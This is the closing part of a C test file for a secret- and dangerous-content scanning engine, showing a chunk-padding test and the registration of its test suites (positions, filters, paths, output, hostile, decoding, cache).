	struct finding_list fl;
	const struct finding *f;
	size_t i, pad, n;
	char *t;

	tu_scanner_init(&ks, keyed_rules);
	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		/* whole in one chunk (the stream has the key atoms only), then
		 * after a chunk and more of blank lines (it has them all) */
		for (pad = 0; pad < 2; pad++) {
			size_t len = strlen(texts[i]), k;

			n = pad ? AL_SCAN_CHUNK + 2 * AL_SCAN_WINDOW + len : len;
			t = malloc(n);
			ck_assert_ptr_nonnull(t);
			for (k = 0; k < n - len; k++)
				t[k] = '\n';
			memcpy(t + n - len, texts[i], len);
			tu_scan(&ks, "a.py", t, n, &fl);
			if (want[i][0] == NULL) {
				ck_assert_msg(fl.n == 0, "text %zu pad %zu", i,
				    pad);
				ck_assert_uint_eq(scan_worker_stage(ks.w) &
				    SCAN_STAGE_REST, 0);
			} else {
				f = tu_first(&fl, want[i][0]);
				ck_assert_msg(f != NULL, "text %zu pad %zu", i,
				    pad);
				ck_assert_msg(f->line == line[i] + (n - len),
				    "text %zu pad %zu: line %llu", i, pad,
				    (unsigned long long)f->line);
				ck_assert_uint_eq(fl.n, 1);
				ck_assert_uint_eq(scan_worker_stage(ks.w) &
				    SCAN_STAGE_REST, pad ? 0 : SCAN_STAGE_REST);
			}
			finding_list_free(&fl);
			free(t);
		}
	}
	tu_scanner_free(&ks);
}
END_TEST

static Suite *
engine_suite(void)
{
	Suite *s = suite_create("engine");
	TCase *tc;

	tc = tcase_create("positions");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, line_and_column);
	tcase_add_test(tc, crlf_lines);
	tcase_add_test(tc, column_counts_code_points);
	tcase_add_test(tc, very_long_line);
	tcase_add_test(tc, token_across_chunk_boundary);
	tcase_add_test(tc, many_chunks_line_numbers);
	tcase_add_test(tc, anchors_at_line_and_file_end);
	suite_add_tcase(s, tc);
	tc = tcase_create("filters");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, entropy_and_allow);
	tcase_add_test(tc, keywords_gate_the_pattern);
	suite_add_tcase(s, tc);
	tc = tcase_create("paths");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, path_rules);
	tcase_add_test(tc, autorun_with_dangerous_content_is_critical);
	tcase_add_test(tc, path_scoped_pattern);
	suite_add_tcase(s, tc);
	tc = tcase_create("output");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, redaction);
	tcase_add_test(tc, redaction_of_deduped_secrets);
	tcase_add_test(tc, dedupe_per_line);
	tcase_add_test(tc, fingerprint_stable);
	suite_add_tcase(s, tc);
	tc = tcase_create("hostile");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, binary_files);
	tcase_add_test(tc, nul_bytes_read_as_sh_reads_them);
	tcase_add_test(tc, binary_strings_joined_once);
	tcase_add_test(tc, utf16_is_read_as_text);
	tcase_add_test(tc, utf16_across_chunks);
	tcase_add_test(tc, lone_cr_ends_a_line);
	tcase_add_test(tc, binary_strings);
	tcase_add_test(tc, normalised_view);
	tcase_add_test(tc, alias_view);
	tcase_add_test(tc, second_stage_reached);
	tcase_add_test(tc, xor_view);
	tcase_add_test(tc, atoms_held_to_the_end);
	tcase_add_test(tc, atoms_looked_for_once_a_key_is_found);
	tcase_add_test(tc, base64_of_utf16);
	tcase_add_test(tc, base64_of_zlib);
	tcase_add_test(tc, pickles);
	tcase_add_test(tc, empty_and_nul_and_invalid_utf8);
	tcase_add_test(tc, finding_cap_is_unscannable);
	tcase_add_test(tc, read_error_is_unscannable);
	suite_add_tcase(s, tc);
	tc = tcase_create("decoding");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, decoded_blobs_are_scanned);
	tcase_add_test(tc, decoded_secret_is_redacted);
	tcase_add_test(tc, undecodable_or_binary_blobs);
	tcase_add_test(tc, long_encoded_text_is_context);
	tcase_add_test(tc, blob_across_chunk_boundary);
	tcase_add_test(tc, triggers_across_chunk_boundary);
	suite_add_tcase(s, tc);
	tc = tcase_create("cache");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, database_cache);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return tu_run(engine_suite()) ? 1 : 0;
}
